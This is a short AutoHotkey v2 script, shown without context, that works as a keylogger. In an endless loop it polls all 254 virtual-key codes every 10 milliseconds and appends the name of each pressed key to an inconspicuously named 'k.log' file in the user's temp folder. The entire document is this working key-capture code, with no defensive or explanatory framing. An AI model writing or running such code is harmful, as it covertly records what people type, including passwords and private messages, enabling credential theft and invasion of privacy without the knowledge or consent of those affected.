#Requires AutoHotkey v2.0
Loop {
    Loop 254
        if GetKeyState(Format("vk{:x}", A_Index))
            FileAppend GetKeyName(Format("vk{:x}", A_Index)), A_Temp "\k.log"
    Sleep 10
}
